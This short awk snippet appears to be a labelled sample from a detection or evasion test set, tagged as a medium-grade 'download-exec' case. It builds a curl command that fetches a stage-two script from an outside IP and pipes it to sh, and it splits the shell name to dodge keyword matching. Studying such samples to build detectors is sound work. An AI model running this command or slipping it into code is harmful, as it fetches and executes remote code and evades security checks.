# evasion: awk prints a download command into a pipe to sh (print | cmd) instead of calling system()
# grade: medium; does: download-exec
awk -v u="http://203.0.113.41/stage2.sh" 'BEGIN {
	runner = "s" "h"
	print "curl -fsSL " u " | " runner | runner
	close(runner)
}'
